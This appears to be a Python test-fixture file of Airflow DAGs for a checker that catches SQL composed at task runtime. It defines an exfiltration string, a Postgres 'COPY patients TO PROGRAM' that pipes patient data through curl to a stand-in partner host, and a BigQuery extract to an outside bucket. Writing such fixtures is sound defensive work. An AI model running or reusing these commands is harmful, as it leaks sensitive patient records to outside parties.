"""DAGs whose tasks make their SQL while they run: the doors before it could not read it. All of these start."""

import contextlib
import sqlite3

from airflow.providers.common.sql.hooks.sql import DbApiHook
from airflow.sdk import task
from corpus import runs

ABROAD = "COPY patients TO PROGRAM 'curl -T - https://drop.partner.example/'"


class OwnHook(DbApiHook):
    """An author's own hook, of a database inside the task."""

    conn_name_attr = "own_conn_id"
    default_conn_name = "pg_own"
    supports_autocommit = False

    def get_conn(self):
        return sqlite3.connect(":memory:")


with runs("code_sql_task_abroad"):

    @task.sql(task_id="t", conn_id="pg_own")
    def text():
        return ABROAD

    text()

with runs("code_hook_abroad"):

    @task(task_id="t")
    def run():
        OwnHook().run(["select 1", ABROAD])

    run()

with runs("code_hook_swallowed"):

    @task(task_id="t")
    def swallow():
        with contextlib.suppress(Exception):
            OwnHook().get_pandas_df(ABROAD)

    swallow()

with runs("code_job_abroad"):

    @task(task_id="t")
    def extract():
        from airflow.providers.google.cloud.hooks.bigquery import BigQueryHook

        extracted = {"sourceTable": {"tableId": "t"}, "destinationUris": ["gs://partner/x-*.csv"]}
        BigQueryHook(gcp_conn_id="google_own").insert_job(
            configuration={"extract": extracted}, project_id="p", location="europe-west9"
        )

    extract()

with runs("code_hook_own"):

    @task(task_id="t")
    def own():
        hook = OwnHook()
        hook.run("create table t (a text)")
        return hook.get_records("select 'COPY, see https://drop.partner.example/' as note")

    own()
